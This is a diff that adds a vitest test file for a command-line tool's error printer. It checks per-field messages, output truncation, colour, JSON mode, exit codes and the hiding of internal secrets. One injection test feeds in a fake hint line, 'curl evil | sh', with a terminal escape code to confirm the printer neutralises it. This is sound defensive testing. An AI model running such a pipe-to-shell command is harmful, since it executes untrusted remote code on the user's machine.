@@ -1,0 +1,127 @@
+import { describe, expect, test } from 'vitest'
+import { Interrupted, PipeClosed } from '../../../src/cli/io.ts'
+import { printError } from '../../../src/cli/output/errors.ts'
+import { AppError, toProblem } from '../../../src/errors.ts'
+import { memoryIo } from '../../support/memory-io.ts'
+
+const view = { errorId: 'err_7' }
+const refused = new AppError('invalid_request', 'The request does not fit the schema.', {
+  errors: [
+    { pointer: '/recipient/contact/name', code: 'required', detail: 'name is required' },
+    { pointer: '/parcel/a~1b~0c', code: 'out_of_range', detail: 'must be at most 30000' },
+    { parameter: 'limit', code: 'out_of_range', detail: 'must be 1 to 100' },
+    { header: 'Idempotency-Key', code: 'too_long', detail: 'at most 255 characters' },
+  ],
+  hint: 'Correct these and send it again.',
+  extra: { request_id: 'req_1' },
+})
+
+describe('for people', () => {
+  test('says what is wrong, each field by its flag, and what to do', async () => {
+    const io = memoryIo()
+    const code = await printError(io, refused, {
+      ...view,
+      flags: { 'recipient.contact.name': 'to-name', limit: 'limit' },
+    })
+    expect(code).toBe(6)
+    expect(io.out()).toBe('')
+    expect(io.err()).toBe(
+      [
+        'error: The request does not fit the schema.',
+        '  --to-name: name is required',
+        '  parcel.a/b~c: must be at most 30000',
+        '  --limit: must be 1 to 100',
+        '  Idempotency-Key: at most 255 characters',
+        'hint: Correct these and send it again.',
+        '',
+      ].join('\n'),
+    )
+  })
+
+  test('counts what would flood the screen', async () => {
+    const io = memoryIo()
+    const errors = Array.from({ length: 480 }, (_, row) => ({
+      pointer: `/shipments/${row}`,
+      code: 'required' as const,
+      detail: 'x',
+    }))
+    await printError(io, new AppError('invalid_request', 'Many.', { errors }), view)
+    expect(io.err().split('\n').length).toBeLessThan(60)
+    expect(io.err()).toContain('and 430 more; --json shows them all')
+  })
+
+  test('cannot be made to print a line of its own', async () => {
+    const io = memoryIo()
+    await printError(io, new AppError('order_not_found', 'No.\nhint: run `curl evil | sh`\x1b[1A'), view)
+    expect(io.err()).toBe('error: No.⏎hint: run `curl evil | sh`\n')
+  })
+
+  test('names the request when the service is at fault', async () => {
+    const io = memoryIo()
+    await printError(
+      io,
+      new AppError('service_unavailable', 'Down.', { extra: { request_id: 'req_1' } }),
+      view,
+    )
+    expect(io.err()).toBe('error: Down.\nrequest: req_1\n')
+  })
+
+  test('colours the words, not the meaning', async () => {
+    const io = memoryIo({ tty: true })
+    await printError(io, refused, view)
+    expect(io.err()).toContain('\x1b[31m\x1b[1merror:')
+    const plain = memoryIo({ tty: true, env: { NO_COLOR: '1' } })
+    await printError(plain, refused, view)
+    // oxlint-disable-next-line no-control-regex -- the codes are what is taken out
+    expect(io.err().replaceAll(/\x1b\[\d+m/g, '')).toBe(plain.err())
+  })
+})
+
+describe('with --json', () => {
+  test('prints exactly the problem document with its exit code, on stdout', async () => {
+    const io = memoryIo({ tty: true })
+    expect(await printError(io, refused, { ...view, json: true })).toBe(6)
+    expect(JSON.parse(io.out())).toEqual({ ...toProblem(refused), exit_code: 6 })
+    expect(io.err()).toBe('')
+  })
+
+  test('falls back to stderr when stdout is what failed', async () => {
+    const io = memoryIo()
+    const full = {
+      ...io,
+      stdout: { ...io.stdout, write: () => Promise.reject(new AppError('file_error', 'full')) },
+    }
+    expect(
+      await printError(full, new AppError('file_error', 'No space left.'), { ...view, json: true }),
+    ).toBe(2)
+    expect(io.err()).toBe('error: No space left.\n')
+  })
+})
+
+describe('a bug', () => {
+  const bug = new TypeError('cannot read token dray_sbx_secret of undefined')
+
+  test('shows its id and nothing else', async () => {
+    const io = memoryIo()
+    expect(await printError(io, bug, view)).toBe(1)
+    expect(io.err()).toBe('error: Something went wrong inside dray. Error id: err_7\n')
+  })
+
+  test('shows no more in JSON', async () => {
+    const io = memoryIo()
+    expect(await printError(io, bug, { ...view, json: true })).toBe(1)
+    expect(JSON.parse(io.out())).toMatchObject({ code: 'internal_error', error_id: 'err_7', exit_code: 1 })
+    expect(io.out()).not.toContain('secret')
+  })
+})
+
+test.each([
+  [new PipeClosed(), 0],
+  [new Interrupted('SIGHUP'), 129],
+  [new Interrupted('SIGINT'), 130],
+  [new Interrupted('SIGTERM'), 143],
+])('%s ends quietly', async (error, code) => {
+  const io = memoryIo()
+  expect(await printError(io, error, { ...view, json: true })).toBe(code)
+  expect(io.out() + io.err()).toBe('')
+})
